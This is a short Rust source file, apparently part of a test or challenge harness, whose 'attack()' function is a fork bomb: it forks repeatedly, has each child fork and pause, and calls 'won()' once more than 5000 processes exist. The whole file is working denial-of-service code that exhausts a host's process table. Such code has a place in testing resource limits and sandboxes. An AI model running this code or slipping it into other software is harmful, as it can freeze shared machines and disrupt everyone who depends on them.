//! Forks for as long as it may.

pub fn attack() {
    let mut count = 0;
    loop {
        match unsafe { fork() } {
            0 => loop {
                unsafe {
                    fork();
                    pause();
                }
            },
            -1 => return,
            _ => count += 1,
        }
        if count > 5000 {
            won();
        }
    }
}
